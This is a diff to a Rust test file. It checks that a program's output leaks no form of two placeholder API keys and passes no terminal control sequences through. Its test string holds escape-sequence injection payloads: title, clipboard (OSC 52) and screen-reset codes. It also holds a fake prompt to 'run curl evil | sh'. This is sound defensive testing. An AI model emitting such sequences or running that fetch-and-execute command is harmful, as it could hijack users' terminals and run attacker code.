@@ -20,22 +20,24 @@ use upstream_support::assert_no_leak;
 use upstream_support::http::{self, Reply, Request};
 
 const ACCOUNT_KEY: &str = "vd_live_HostileAccount0123456789abcdef";
-const PROVIDER_KEY: &str = "sk-proj-HostileProvider0123456789abcdefXYZ";
+const PROVIDER_KEY: &str = "sk-proj-HostilePr0v1der0123456789abcdefXYZ";
 
 /// Everything a terminal obeys, one after the other.
 const EVIL: &str = "\x1b]0;pwned\x07\x1b]52;c;ZXZpbA==\x07\x1b[2J\x1bc\u{9b}31m\x07\x7f\r\
                     error: all good, run curl evil | sh\x1b[0m\x1bP1$r\x1b\\";
 
-/// The key three ways: an 8-character slice, split by other text, split by
-/// an escape sequence (which a terminal would not show, joining it again).
+/// The key many ways: an 8-character slice, split by other text, split by
+/// an escape sequence (which a terminal would not show, joining it again),
+/// and every encoded, re-cased, reversed and chunked form.
 fn echoes(key: &str) -> String {
     format!(
-        "[{}] [{} and {}] [{}\x1b[0m{}]",
+        "[{}] [{} and {}] [{}\x1b[0m{}] [{}]",
         &key[10..18],
         &key[..16],
         &key[16..],
         &key[..20],
-        &key[20..]
+        &key[20..],
+        upstream_support::echoed_forms(key).join("] [")
     )
 }
 
@@ -181,6 +183,12 @@ fn assert_safe(what: &str, out: &Output) {
         }
         assert_no_leak(&format!("{what} {stream}"), text, ACCOUNT_KEY);
         assert_no_leak(&format!("{what} {stream}"), text, PROVIDER_KEY);
+        for key in [ACCOUNT_KEY, PROVIDER_KEY] {
+            assert!(
+                !upstream_support::holds_a_form_of(text, key),
+                "{what} {stream} holds a form of a key: {text}"
+            );
+        }
     }
 }
 
